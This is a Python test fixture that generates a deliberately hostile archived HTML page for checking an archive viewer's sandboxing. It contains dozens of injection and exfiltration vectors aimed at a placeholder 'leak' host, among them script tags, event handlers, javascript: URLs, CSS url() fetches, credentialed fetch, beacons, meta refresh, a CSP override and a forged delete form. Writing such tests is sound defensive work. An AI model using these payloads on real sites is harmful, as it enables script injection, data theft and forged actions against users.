"""An archived page that tries everything to run, to fetch, to leave and to act; `{leak}` and `{app}` are addresses."""

# Each line is one attempt. Every address it names holds the word "leak", so that one search tells whether any got out.
ATTEMPTS = """
<script>document.documentElement.dataset.ran = "inline"</script>
<script src="{leak}/script.js"></script>
<script type="module">document.documentElement.dataset.ran = "module"; import("{leak}/module.js")</script>
<script src="data:text/javascript,document.documentElement.dataset.ran='data'"></script>
<script>fetch("{app}/?leak=fetch", {{credentials: "include"}}); navigator.sendBeacon("{leak}/beacon", "x")</script>
<script>new Image().src = "{leak}/image"; new WebSocket("{leak}/ws".replace("http", "ws")); open("{leak}/open")</script>
<script>navigator.serviceWorker.register("/leak-worker.js"); top.location = "{app}/?leak=top"</script>
<script>location = "{app}/?leak=self"; document.cookie = "leak=1"; localStorage.leak = 1</script>
<script type="speculationrules">{{"prefetch": [{{"urls": ["{leak}/speculation"]}}]}}</script>
<svg onload="document.documentElement.dataset.ran='svg'"></svg>
<svg><script>document.documentElement.dataset.ran='svg-script'</script></svg>
<img src="{leak}/img" onerror="document.documentElement.dataset.ran='onerror'">
<img srcset="{leak}/srcset 1x, {leak}/srcset2 2x" src="data:,x">
<picture><source srcset="{leak}/picture"><img alt="图"></picture>
<img src="{app}/s/leak/thumbnail" loading="eager">
<input autofocus onfocus="document.documentElement.dataset.ran='focus'" type="image" src="{leak}/input">
<details open ontoggle="document.documentElement.dataset.ran='toggle'"><summary>展开</summary></details>
<video src="{leak}/video" poster="{leak}/poster" autoplay muted></video>
<audio src="{leak}/audio" autoplay></audio>
<video><source src="{leak}/source"><track src="{leak}/track" default kind="subtitles"></video>
<iframe src="{leak}/iframe"></iframe>
<iframe src="{app}/?leak=app-iframe"></iframe>
<iframe srcdoc="<script>parent.document.documentElement.dataset.ran='srcdoc'</script>"></iframe>
<iframe srcdoc="<img src='{leak}/srcdoc'>"></iframe>
<iframe src="javascript:parent.document.documentElement.dataset.ran='js-url'"></iframe>
<iframe src="data:text/html,<img src='{leak}/data-iframe'>"></iframe>
<object data="{leak}/object"></object>
<embed src="{leak}/embed">
<link rel="stylesheet" href="{leak}/style.css">
<link rel="preload" as="image" href="{leak}/preload">
<link rel="prefetch" href="{leak}/prefetch">
<link rel="modulepreload" href="{leak}/modulepreload.js">
<link rel="icon" href="{leak}/icon">
<link rel="manifest" href="{leak}/manifest">
<link rel="prerender" href="{leak}/prerender">
<style>@import "{leak}/import.css"; @font-face {{font-family: L; src: url("{leak}/font")}}</style>
<style>body {{font-family: L, serif; background: url("{leak}/background"); cursor: url("{leak}/cursor"), auto}}</style>
<style>p::before {{content: url("{leak}/content")}} li {{list-style: url("{leak}/list")}}</style>
<style>p {{border-image: url("{leak}/border") 1; mask: url("{leak}/mask"); filter: url("{leak}/filter#f")}}</style>
<style>p {{background: image-set("{leak}/image-set" 1x)}} :visited {{background: url("{leak}/visited")}}</style>
<p style="background: url({leak}/inline)">正文 Body text</p><ul><li>项</li></ul>
<table background="{leak}/table"><tr><td background="{leak}/td">表</td></tr></table>
<svg><image href="{leak}/svg-image"/><use href="{leak}/svg-use#x"/><feImage href="{leak}/fe"/></svg>
<svg><a href="javascript:document.documentElement.dataset.ran='svg-a'"><text y="20">点</text></a></svg>
<math><mtext><img src="{leak}/math"></mtext></math>
<template shadowrootmode="open"><img src="{leak}/shadow"><slot></slot></template>
<base href="{leak}/base/"><img src="relative">
<meta http-equiv="refresh" content="0;url={app}/?leak=refresh">
<meta http-equiv="refresh" content="0;url={leak}/refresh">
<meta http-equiv="Set-Cookie" content="leak=1">
<meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline'">
<form id="f" action="{app}/links/leak/delete" method="post"><button id="send">送出</button></form>
<a id="top" target="_top" href="{app}/?leak=click-top">去首页</a>
<a id="blank" target="_blank" href="{leak}/click-blank">新窗口</a>
<a id="script" href="javascript:document.documentElement.dataset.ran='click'">脚本</a>
<a id="ping" ping="{leak}/ping" href="#here">打点</a>
<a id="download" download href="{leak}/download">下载</a>
"""


def hostile_archive(leak: str, app: str) -> bytes:
    """The page as bytes; `leak` is an outside server, `app` the product itself."""
    tries = ATTEMPTS.format(leak=leak, app=app)
    return (
        f'<!doctype html><html lang="zh"><meta charset="utf-8"><title>敌意</title><body>{tries}</body></html>'.encode()
    )
